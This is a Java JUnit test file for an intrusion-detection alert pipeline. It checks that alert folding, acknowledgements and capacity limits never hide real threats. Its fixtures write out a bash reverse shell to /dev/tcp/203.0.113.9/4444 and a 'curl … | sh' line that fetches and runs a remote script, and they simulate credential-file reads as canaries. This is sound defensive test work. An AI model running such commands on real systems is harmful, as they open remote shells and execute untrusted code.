package dev.tripline.collector.pipeline;

import static dev.tripline.collector.pipeline.PipelineFixtures.read;
import static dev.tripline.collector.pipeline.PipelineFixtures.spawn;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.tripline.collector.detect.AlertFolding;
import dev.tripline.collector.detect.Detection;
import dev.tripline.kafka.Patience;
import dev.tripline.model.Alert;
import dev.tripline.model.AlertReason;
import dev.tripline.model.AlertState;
import dev.tripline.model.AnalystAction;
import dev.tripline.model.Event;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 21, case 3: noise never hides signal. Folding keeps commands an analyst tells apart apart,
 * an acknowledgement does not swallow later evidence, and past the per-kind bound a sensitive read
 * still alerts on its own while the overflow alert names the most suspicious of what it swallowed.
 * Each abuse is followed by a canary credential read that must alert.
 */
class NoiseHidesNoSignalTest {
  private static final String HEALTH =
      "for i in 1 2 3; do curl -fsS http://localhost:8080/health && exit 0; sleep 2; done; exit 1";
  private static final String REVERSE = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1";
  private static final String PAD = " > /dev/null; logger done";
  private static final String CURL_SH = "curl -s http://203.0.113.9/x.sh | sh";

  private static void acknowledge(TopologyFixture f, Alert alert) {
    f.act(
        AnalystAction.newBuilder()
            .setType(AnalystAction.ActionType.ACKNOWLEDGE)
            .setService(alert.getService())
            .setAlertId(alert.getId())
            .setActor("ana")
            .build());
  }

  private static List<Alert> published(TopologyFixture f, int from) {
    return new ArrayList<>(f.alerts().subList(from, f.alerts().size()));
  }

  /** A credential read after the abuse: a KNOWN_BAD alert naming it is published. */
  private static void canaryAlerts(TopologyFixture f, String service, String home) {
    int before = f.alerts().size();
    f.send(service, read("/home/" + home + "/.aws/credentials"));
    assertTrue(
        published(f, before).stream()
            .anyMatch(
                a ->
                    a.getReason() == AlertReason.KNOWN_BAD
                        && a.getTitle().contains("/home/" + home + "/.aws/credentials")),
        "canary credential read alerts: " + published(f, before));
  }

  @Test
  void aReverseShellNeverFoldsIntoAnAcknowledgedHealthCheckShell(@TempDir Path dir) {
    try (TopologyFixture f = new TopologyFixture(dir)) {
      DetectionTopologyTest.learn(f, "shop");
      f.send("shop", spawn("/bin/sh", "-c", HEALTH));
      Alert health = f.alerts().get(f.alerts().size() - 1);
      assertEquals(AlertReason.KNOWN_BAD, health.getReason());
      assertEquals(List.of("/bin/sh -c " + HEALTH), health.getSamplesList());
      acknowledge(f, health);

      // The same script with other numbers is the same evidence: folded, nothing published.
      int before = f.alerts().size();
      f.send("shop", spawn("/bin/sh", "-c", HEALTH.replace("8080", "8081")));
      assertEquals(before, f.alerts().size(), "numbers folded: " + published(f, before));
      assertEquals(2, f.alert(health.getId()).orElseThrow().getCount());

      f.send("shop", spawn("/bin/sh", "-c", REVERSE));
      f.send("shop", spawn("/bin/sh", "-c", CURL_SH));
      List<Alert> after = published(f, before);
      assertEquals(2, after.size(), "each command is an alert of its own: " + after);
      assertTrue(after.get(0).getTitle().contains(REVERSE), after.get(0).getTitle());
      assertTrue(after.get(1).getTitle().contains(CURL_SH), after.get(1).getTitle());
      assertEquals(AlertState.OPEN, after.get(0).getState());
      assertTrue(
          f.json().stream().anyMatch(j -> j.contains("/dev/tcp/203.0.113.9/4444")),
          "the reverse shell's command line reaches the SIEM topic");
      assertEquals(
          AlertState.ACKNOWLEDGED,
          f.alert(health.getId()).orElseThrow().getState(),
          "the acknowledged alert kept its state: nothing new folded into it");
      canaryAlerts(f, "shop", "a");
    }
  }

  @Test
  void inventedCommandsAreBoundedAndStillReopenAnAcknowledgedAlert(@TempDir Path dir) {
    try (TopologyFixture f = new TopologyFixture(dir)) {
      DetectionTopologyTest.learn(f, "shop");
      int before = f.alerts().size();
      int flood = Detection.MAX_COMMAND_VARIANTS + 20;
      String[] words = {"alpha", "bravo", "charlie", "delta", "echo", "foxtrot", "golf", "hotel"};
      for (int i = 0; i < flood; i++) {
        // words, not digits: each is a command of its own (one shape: scripts past 24 chars)
        f.send(
            "shop", spawn("/bin/sh", "-c", "echo " + words[i % 8] + " " + words[i / 8 % 8] + PAD));
      }
      List<Alert> flooded = published(f, before);
      assertEquals(
          Detection.MAX_COMMAND_VARIANTS + 1,
          flooded.stream().map(Alert::getId).distinct().count(),
          "32 commands alert on their own, the rest fold into the shape's alert");
      Alert shape = flooded.get(flooded.size() - 1);
      Alert stored = f.alert(shape.getId()).orElseThrow();
      assertEquals(20, stored.getCount());
      assertEquals(AlertFolding.MAX_SAMPLES, stored.getSamplesCount());
      assertEquals(20 - AlertFolding.MAX_SAMPLES, stored.getSamplesDropped());

      acknowledge(f, stored);
      int acked = f.alerts().size();
      f.send(
          "shop", spawn("/bin/sh", "-c", "echo hotel hotel hotel" + PAD)); // folds into the shape
      List<Alert> reopened = published(f, acked);
      assertEquals(1, reopened.size(), "new evidence after the acknowledgement is published");
      assertEquals(stored.getId(), reopened.get(0).getId());
      assertEquals(AlertState.OPEN, reopened.get(0).getState());
      assertEquals(1, reopened.get(0).getReopened());
      // The same evidence again re-opens nothing once acknowledged again.
      acknowledge(f, reopened.get(0));
      int again = f.alerts().size();
      f.send("shop", spawn("/bin/sh", "-c", "echo hotel hotel hotel" + PAD));
      assertEquals(again, f.alerts().size());
      canaryAlerts(f, "shop", "b");
    }
  }

  @Test
  void pastThePerKindBoundASensitiveReadStillAlertsAndTheOverflowNamesTheWorst(@TempDir Path dir) {
    int cap = 20;
    try (TopologyFixture f =
        new TopologyFixture(dir, "profile.max.entries.per.kind", String.valueOf(cap))) {
      DetectionTopologyTest.learn(f, "shop");
      int before = f.alerts().size();
      List<Event> photos = new ArrayList<>();
      for (int i = 0; i < cap; i++) {
        photos.add(read("/srv/shop/photos/beach-" + (char) ('a' + i) + ".jpg"));
      }
      f.send("shop", photos.toArray(Event[]::new));
      assertEquals(cap, published(f, before).size(), "the per-kind bound is reached");

      int full = f.alerts().size();
      f.send(
          "shop",
          read("/srv/shop/photos/zebra.jpg"),
          read("/srv/shop/photos/yak.jpg"),
          read("/opt/vault/master.key"),
          read("/etc/hosts.allow"),
          read("/srv/shop/photos/xerus.jpg"));
      List<Alert> after = published(f, full);
      assertTrue(
          after.stream()
              .anyMatch(
                  a ->
                      a.getReason() == AlertReason.NEW_FILE_ACCESS
                          && a.getNormalizedTarget().equals("/opt/vault/master.key")),
          "the vault key alerts on its own past the bound: " + after);
      Alert overflow =
          after.stream()
              .filter(a -> a.getReason() == AlertReason.PROFILE_OVERFLOW)
              .findFirst()
              .orElseThrow();
      assertEquals(4, overflow.getCount(), "what it swallowed, counted");
      assertEquals("/etc/hosts.allow", overflow.getEvent().getFile().getPath(), "not a photo");
      assertEquals("/etc/hosts.allow", overflow.getSamples(0), "most suspicious first");
      assertEquals(4, overflow.getSamplesCount());
      assertTrue(overflow.getDescription().contains("/etc/hosts.allow"));
      assertFalse(
          overflow.getSamplesList().contains("/opt/vault/master.key"),
          "the key had its own alert, it was not swallowed");
      canaryAlerts(f, "shop", "c");
    }
  }

  /**
   * Case 5: services.max filled with invented services refuses a real new one until an analyst
   * retires an invented one (recorded in the audit trail); then the real service is heard and its
   * credential read alerts.
   */
  @Test
  void aRetiredServiceFreesItsServicesMaxSlot(@TempDir Path dir) {
    try (TopologyFixture f = new TopologyFixture(dir, "services.max", "3")) {
      for (int i = 0; i < 3; i++) {
        f.send("invented-" + i, read("/srv/x/" + (char) ('a' + i)));
      }
      f.send("payments", read("/home/p/.aws/credentials"));
      assertTrue(f.profile("payments").isEmpty(), "refused at services.max");
      assertTrue(f.alerts().stream().noneMatch(a -> a.getService().equals("payments")));

      f.act(
          AnalystAction.newBuilder()
              .setType(AnalystAction.ActionType.RETIRE_SERVICE)
              .setService("invented-1")
              .setActor("ana")
              .setComment("never existed")
              .build());
      assertTrue(
          f.audit().stream()
              .anyMatch(
                  a ->
                      a.getType() == AnalystAction.ActionType.RETIRE_SERVICE
                          && a.getService().equals("invented-1")
                          && a.getActor().equals("ana")),
          "audited: " + f.audit());
      // The cap recounts at most once a second (wall clock): the real agent's batches come again.
      org.awaitility.Awaitility.await()
          .atMost(Patience.WAIT)
          .until(
              () -> {
                f.send("payments", read("/home/p/.aws/credentials"));
                return f.alerts().stream()
                    .anyMatch(
                        a ->
                            a.getService().equals("payments")
                                && a.getReason() == AlertReason.KNOWN_BAD);
              });
      assertTrue(f.profile("invented-1").isEmpty(), "retired: gone from the global view");
    }
  }
}
